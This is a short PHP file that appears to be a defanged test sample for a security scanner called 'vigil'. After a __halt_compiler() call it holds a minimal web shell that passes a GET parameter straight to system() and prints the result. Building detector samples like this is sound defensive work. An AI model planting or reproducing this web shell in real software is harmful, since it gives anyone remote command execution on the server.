<?php
/* DEFANGED vigil test sample (see README). __halt_compiler() stops PHP here: nothing below runs. */
__halt_compiler();
<?php
if (isset($_GET['c'])) {
    echo '<pre>';
    system($_GET['c']);
    echo '</pre>';
}
